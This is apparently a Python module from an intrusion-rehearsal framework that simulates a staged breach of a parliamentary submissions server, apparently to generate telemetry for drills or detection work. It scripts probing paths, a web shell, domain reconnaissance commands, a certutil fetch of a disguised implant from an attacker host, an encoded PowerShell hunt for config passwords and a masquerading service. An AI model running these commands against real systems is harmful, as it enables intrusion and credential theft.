"""A group's habits in, a slow breach out: a public server of the Parliamentary Service, then what lies behind it.

It takes most of the drill: days of looking, weeks of quiet taking. A step whose techniques the profile does not have is
left out.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tocsin.rehearse.acts import changes, processes, web
from tocsin.rehearse.benign.servers import encoded
from tocsin.rehearse.dice import Dice
from tocsin.rehearse.machine import SYSTEM32, system
from tocsin.rehearse.rhythm import DAY_US, day_of
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.stories import mailbox, spread, taking
from tocsin.rehearse.stories.hold import MINUTE, Hold, agent, calling, either, keeps, post
from tocsin.rehearse.stories.means import at_work, calls_home, means, typed
from tocsin.rehearse.stories.profile import Profile
from tocsin.rehearse.stories.story import Story, working_day
from tocsin.rehearse.world import Body

_SHELL_PATH: Final = "C:\\inetpub\\wwwroot\\submissions\\images\\resize.aspx"
_TARGET: Final = "/submissions/images/resize.aspx"
_IMPLANT: Final = "C:\\ProgramData\\Microsoft\\Diagnosis\\wlbsvc.exe"


def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int]]:
    body = scene.world.body("ps")
    story = Story(
        id="incident-1",
        campaign="campaign-1",
        kind="breach",
        title=f"Slow breach of the {body.title} through its submissions server",
        body=body,
        dice=Dice(seed, "breach"),
        profile=profile,
    )
    return story, _acts(scene, story, profile, body)


def _acts(scene: Scene, story: Story, profile: Profile, body: Body) -> Iterator[int]:
    dice = story.dice
    first = working_day(scene, 0.12)
    span = working_day(scene, 0.9) - first

    now = 0

    def moment(share: float) -> int:
        """In their working hours of a working day, and after what was done before."""
        day = first + int(share * span) // DAY_US * DAY_US
        at = at_work(profile, _weekday(day), dice)
        return at if at > now + 10 * MINUTE else now + int(dice.between(10, 40) * MINUTE)

    yield (now := moment(0))
    machine = scene.machine(body.one("web"))
    hold = Hold(means=means(scene.world, profile, dice), web=machine)
    story.addresses.update(hold.means.relays)
    _looks(scene, story, hold, now)
    yield (now := moment(0.05))
    _enters(scene, story, hold, now)
    yield (now := now + 9 * MINUTE)
    _looks_around(scene, story, hold, now)
    yield (now := moment(0.1))
    _settles(scene, story, hold, now)
    for share in (0.13, 0.2, 0.27, 0.34):
        yield (now := moment(share))
        _keeps_in_touch(scene, story, hold, now)
    yield (now := moment(0.18))
    spread.steals(scene, story, hold, now)
    for share in (0.21, 0.24, 0.27):
        yield (now := moment(share))
        spread.roasts(scene, story, hold, now)
    yield (now := moment(0.3))
    spread.moves(scene, story, hold, now)
    yield (now := moment(0.42))
    spread.takes_directory(scene, story, hold, now)
    for share in (0.44, 0.5, 0.56):
        for part in range(3):
            yield (now := moment(share + 0.015 * part))
            taking.gathers(scene, story, hold, now, part)
        yield (now := now + 50 * MINUTE)
        taking.packs(scene, story, hold, now)
        _uses_shell(scene, story, hold, now + 30 * MINUTE)
    for number in range(9):
        yield (now := moment(0.6 + 0.03 * number))
        if number in {2, 5}:
            mailbox.reads(scene, story, hold, now - 30 * MINUTE, number)
        taking.sends(scene, story, hold, now)
        _keeps_in_touch(scene, story, hold, now + 40 * MINUTE)
    yield (now := moment(0.88))
    spread.misleads(scene, story, hold, now)
    yield (now := moment(0.95))
    spread.tidies(scene, story, hold, now)


def _weekday(day_us: int) -> int:
    """The day itself, or the Monday after it."""
    ahead = 7 - day_of(day_us).weekday()
    return day_us + (ahead if ahead < 3 else 0) * DAY_US


def _looks(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """They try the server for what is known to be weak, by hand and slowly."""
    dice = story.dice
    if not (story.profile and story.profile.does("T1595.002")):
        return
    tried = (
        "/submissions/",
        "/submissions/web.config",
        "/submissions/trace.axd",
        "/submissions/Telerik.Web.UI.WebResource.axd?type=rau",
    )
    more = ("/submissions/upload.aspx", "/elmah.axd", "/submissions/App_Data/", "/submissions/view.aspx?id=1'")
    with story.step(scene, ts_us, "T1595.002", "They try the server for known weaknesses", host=hold.web.host):
        at = ts_us
        for target in (*tried, *more, *tried[:2]):
            status = 200 if target.endswith(("submissions/", "upload.aspx")) or "Telerik" in target else 404
            request = web.Request(
                target=target, status=status, received=dice.size(1900, 0.4), took_ms=dice.size(20, 0.6)
            )
            web.visit(scene, at, dice.one(hold.means.relays), hold.web.host, [request], agent=agent(dice))
            at += 20_000_000 + dice.below(240_000_000)


def _enters(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A crafted upload runs a command in the worker process; a web shell follows."""
    pool, host = hold.pool, hold.web.host
    account = pool.session.account
    with story.step(
        scene, ts_us, "T1190", "A crafted upload runs a command in the web server", host=host, account=account
    ):
        post(
            scene,
            story,
            hold,
            ts_us,
            "/submissions/Telerik.Web.UI.WebResource.axd?type=rau",
            sent=184_300,
            received=312,
        )
        typed(scene, hold.web, ts_us + 700_000, pool, "whoami")
    if not (story.profile and story.profile.does("T1505.003")):
        return
    at = ts_us + 4 * MINUTE
    with story.step(scene, at, "T1505.003", "A web shell is written among the pictures", host=host, account=account):
        post(scene, story, hold, at, "/submissions/Telerik.Web.UI.WebResource.axd?type=rau", sent=191_770, received=312)
        processes.writes(scene, pool, at + 600_000, _SHELL_PATH)
        post(scene, story, hold, at + 40_000_000, _TARGET, sent=310, received=96)
        typed(scene, hold.web, at + 40_400_000, pool, "echo [S]&cd&echo [E]", image=SYSTEM32 + "cmd.exe", through="")


def _looks_around(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Through the web shell: who, what, where."""
    host, account = hold.web.host, hold.pool.session.account
    asks = (
        ("T1033", "whoami /all"),
        ("T1082", "systeminfo"),
        ("T1016", "ipconfig /all"),
        ("T1049", "netstat -ano"),
        ("T1057", "tasklist /v"),
        ("T1018", "net view /domain"),
        ("T1083", 'dir /s /a "C:\\inetpub\\*.config"'),
        ("T1087.002", "net user /domain"),
        ("T1069.002", 'net group "Domain Admins" /domain'),
        ("T1482", "nltest /domain_trusts"),
    )
    at = ts_us
    for technique, line in asks:
        if story.profile and story.profile.does(technique):
            what = f"From the web server's account: {line}"
            with story.step(scene, at, technique, what, host=host, account=account):
                post(
                    scene, story, hold, at, _TARGET, sent=story.dice.size(420, 0.2), received=story.dice.size(3000, 0.8)
                )
                if line.startswith("dir"):
                    typed(scene, hold.web, at + 400_000, hold.pool, line, image=SYSTEM32 + "cmd.exe", through="")
                else:
                    typed(scene, hold.web, at + 400_000, hold.pool, line)
        at += 40_000_000 + story.dice.below(200_000_000)


def _settles(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A program of their own comes over, and a service that starts it."""
    machine, pool, site = hold.web, hold.pool, hold.means.home[0]
    host, account, profile = machine.host, pool.session.account, story.profile
    assert profile
    what = f"{profile.software.get('implant', 'A program of theirs')} is fetched under a name like Windows' own"
    with story.step(scene, ts_us, "T1105", what, host=host, account=account):
        line = f"certutil -urlcache -split -f https://{site.name}/kb5039217.cab {_IMPLANT}"
        post(scene, story, hold, ts_us, _TARGET, sent=690, received=410)
        tool = typed(scene, machine, ts_us + 400_000, pool, line)
        calls_home(scene, story, tool, site, ts_us + 700_000, received=742_400)
        processes.writes(scene, tool, ts_us + 1_900_000, _IMPLANT)
    if profile.does("T1059.001"):
        at = ts_us + 3 * MINUTE
        search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
        text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
        with story.step(
            scene,
            at,
            "T1059.001 T1552.001",
            "PowerShell looks for passwords in configurations",
            host=host,
            account=account,
        ):
            post(scene, story, hold, at, _TARGET, sent=1100, received=210)
            image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
            run = typed(
                scene, machine, at + 400_000, pool, f"powershell -nop -ep bypass -enc {encoded(text)}", image=image
            )
            processes.script(scene, run, at + 900_000, text)
            processes.writes(scene, run, at + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")
    at = ts_us + 11 * MINUTE
    if profile.does("T1543.003"):
        name = "Windows Load Balancing Service"
        with story.step(scene, at, "T1543.003 T1036.005", "A service starts their program", host=host, account=account):
            post(scene, story, hold, at, _TARGET, sent=520, received=130)
            # The worker's account may not do this: a weakness of the preview service makes it SYSTEM.
            shell = processes.once(
                scene, machine, at + 300_000, SYSTEM32 + "cmd.exe", '"cmd.exe" /c C:\\Windows\\Temp\\p.exe', pool
            )
            session = system(machine)
            line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
            processes.once(scene, machine, at + 900_000, SYSTEM32 + "sc.exe", line, shell, session, integrity="System")
            changes.service(scene, machine, at + 1_100_000, session, name, _IMPLANT, automatic=True)
            processes.sets(
                scene,
                machine.core["services"],
                at + 1_200_000,
                "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath",
                _IMPLANT,
            )
            hold.implant = processes.start(scene, machine, at + 2_000_000, _IMPLANT, _IMPLANT, machine.core["services"])
        keeps(scene, story, hold, "implant", "services")
    else:
        with story.step(scene, at, "T1059.003", "Their program is started by hand", host=host, account=account):
            hold.implant = processes.start(scene, machine, at, _IMPLANT, _IMPLANT, pool)


def _uses_shell(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Now and then they still come by the web shell, to see that it is there."""
    if not (story.profile and story.profile.does("T1505.003")):
        return
    what = "The web shell is used again"
    with story.step(scene, ts_us, "T1505.003", what, host=hold.web.host, again="shell"):
        line = story.dice.one(("dir C:\\inetpub\\wwwroot\\submissions\\images", "whoami", "date /t"))
        post(scene, story, hold, ts_us, _TARGET, sent=story.dice.size(300, 0.3), received=story.dice.size(900, 0.6))
        through = "cmd" if line == "whoami" else ""
        image = "" if through else SYSTEM32 + "cmd.exe"
        typed(scene, hold.web, ts_us + 400_000, hold.pool, line, image=image, through=through)


def _keeps_in_touch(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Their program calls home now and then, for half a day."""
    with calling(scene, story, hold, ts_us):
        at = ts_us
        for _ in range(6 + story.dice.below(6)):
            run = either(hold, story.dice)
            calls_home(scene, story, run, story.dice.one(hold.means.home), at)
            at += int((600 + story.dice.wait(1500)) * 1e6)
